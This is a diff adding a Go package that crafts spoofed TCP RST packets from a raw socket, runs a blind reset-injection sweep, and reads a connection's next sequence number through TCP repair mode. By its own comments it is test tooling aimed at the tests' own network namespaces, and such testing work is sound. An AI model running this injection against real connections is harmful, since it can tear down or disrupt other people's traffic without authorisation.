@@ -1,0 +1,176 @@
+// Package rstinject crafts TCP RSTs aimed at an established IPv4
+// connection, from a raw socket: the reset injection the tests attack their
+// own namespaces with. Where the receiver's next expected sequence number
+// comes from is the caller's business (NextSeq reads it off the peer's own
+// socket, which is what an on-path observer of the handshake knows).
+package rstinject
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"net"
+	"net/netip"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// Target is one direction of a connection: the RSTs claim to come from Src
+// and go to Dst, whose socket expects RcvNxt next.
+type Target struct {
+	Src, Dst netip.AddrPort
+	RcvNxt   uint32
+}
+
+// Shape is what the crafted packets carry besides the 4-tuple: a tool's
+// fingerprint.
+type Shape struct {
+	TTL    uint8
+	Window uint16
+}
+
+// Frame builds an IPv4 packet: a RST (no ACK, no options) with sequence seq.
+func Frame(t Target, seq uint32, s Shape) ([]byte, error) {
+	src, dst := t.Src.Addr().Unmap(), t.Dst.Addr().Unmap()
+	if !src.Is4() || !dst.Is4() {
+		return nil, errors.New("rstinject: IPv4 only")
+	}
+	b := make([]byte, 40)
+	b[0] = 0x45
+	binary.BigEndian.PutUint16(b[2:], 40)
+	binary.BigEndian.PutUint16(b[4:], uint16(rand.Uint32()))
+	b[8] = s.TTL
+	b[9] = syscall.IPPROTO_TCP
+	s4, d4 := src.As4(), dst.As4()
+	copy(b[12:16], s4[:])
+	copy(b[16:20], d4[:])
+	binary.BigEndian.PutUint16(b[10:], checksum(b[:20], 0))
+	tcp := b[20:]
+	binary.BigEndian.PutUint16(tcp[0:], t.Src.Port())
+	binary.BigEndian.PutUint16(tcp[2:], t.Dst.Port())
+	binary.BigEndian.PutUint32(tcp[4:], seq)
+	tcp[12] = 5 << 4
+	tcp[13] = 0x04 // RST
+	binary.BigEndian.PutUint16(tcp[14:], s.Window)
+	// The pseudo-header: addresses, protocol, TCP length.
+	var pseudo uint32
+	for i := 0; i < 4; i += 2 {
+		pseudo += uint32(binary.BigEndian.Uint16(s4[i:])) + uint32(binary.BigEndian.Uint16(d4[i:]))
+	}
+	pseudo += syscall.IPPROTO_TCP + 20
+	binary.BigEndian.PutUint16(tcp[16:], checksum(tcp, pseudo))
+	return b, nil
+}
+
+func checksum(b []byte, sum uint32) uint16 {
+	for i := 0; i+1 < len(b); i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(b[i:]))
+	}
+	for sum>>16 != 0 {
+		sum = sum&0xffff + sum>>16
+	}
+	return ^uint16(sum)
+}
+
+// Injector sends crafted packets from a raw socket of the network namespace
+// of the thread that opened it.
+type Injector struct {
+	fd int
+}
+
+// Open opens the raw socket (CAP_NET_RAW). The kernel routes what it sends
+// by destination and sends the source address as written: spoofed.
+func Open() (*Injector, error) {
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
+	if err != nil {
+		return nil, fmt.Errorf("open raw socket: %w", err)
+	}
+	return &Injector{fd: fd}, nil
+}
+
+// Close closes the socket.
+func (i *Injector) Close() error { return unix.Close(i.fd) }
+
+// Send sends one RST with sequence seq.
+func (i *Injector) Send(t Target, seq uint32, s Shape) error {
+	b, err := Frame(t, seq, s)
+	if err != nil {
+		return err
+	}
+	to := &unix.SockaddrInet4{Addr: t.Dst.Addr().Unmap().As4()}
+	if err := unix.Sendto(i.fd, b, 0, to); err != nil {
+		return fmt.Errorf("send rst: %w", err)
+	}
+	return nil
+}
+
+// InWindowSpan is how far past RcvNxt the in-window RSTs land: inside any
+// receive window Linux opens (ten segments at least), never at RcvNxt
+// itself, which would reset the connection.
+const InWindowSpan = 8192
+
+// Blind sends RSTs at pps until ctx ends, round robin over targets: a
+// share inWindow of them in the window (RcvNxt+1 .. RcvNxt+InWindowSpan-1:
+// challenged) and the rest half the sequence space away (out of the
+// window), as a sweep guessing the window would. None is exactly at
+// RcvNxt. It returns the RSTs sent.
+func (i *Injector) Blind(ctx context.Context, targets []Target, s Shape, pps int, inWindow float64) (int, error) {
+	tick := time.NewTicker(time.Second / time.Duration(max(pps, 1)))
+	defer tick.Stop()
+	for n := 0; ; n++ {
+		t := targets[n%len(targets)]
+		seq := t.RcvNxt + 1<<31 + rand.Uint32N(1<<30)
+		if rand.Float64() < inWindow {
+			seq = t.RcvNxt + 1 + rand.Uint32N(InWindowSpan-1)
+		}
+		if err := i.Send(t, seq, s); err != nil {
+			return n, err
+		}
+		select {
+		case <-ctx.Done():
+			return n + 1, nil
+		case <-tick.C:
+		}
+	}
+}
+
+// tcpSendQueue is the kernel's TCP_SEND_QUEUE (include/uapi/linux/tcp.h),
+// which x/sys/unix does not name.
+const tcpSendQueue = 2
+
+// NextSeq reads the sequence number a connected TCP socket sends next
+// (TCP_QUEUE_SEQ of its send queue, in repair mode): while it sends
+// nothing, its peer's rcv_nxt. Repair mode is left without a window probe.
+func NextSeq(c *net.TCPConn) (uint32, error) {
+	raw, err := c.SyscallConn()
+	if err != nil {
+		return 0, err
+	}
+	var seq int
+	var serr error
+	err = raw.Control(func(fd uintptr) {
+		if serr = unix.SetsockoptInt(int(fd), unix.SOL_TCP, unix.TCP_REPAIR, unix.TCP_REPAIR_ON); serr != nil {
+			return
+		}
+		defer func() {
+			if err := unix.SetsockoptInt(int(fd), unix.SOL_TCP, unix.TCP_REPAIR, unix.TCP_REPAIR_OFF_NO_WP); err != nil && serr == nil {
+				serr = err
+			}
+		}()
+		if serr = unix.SetsockoptInt(int(fd), unix.SOL_TCP, unix.TCP_REPAIR_QUEUE, tcpSendQueue); serr != nil {
+			return
+		}
+		seq, serr = unix.GetsockoptInt(int(fd), unix.SOL_TCP, unix.TCP_QUEUE_SEQ)
+	})
+	if err == nil {
+		err = serr
+	}
+	if err != nil {
+		return 0, fmt.Errorf("read send sequence: %w", err)
+	}
+	return uint32(seq), nil
+}
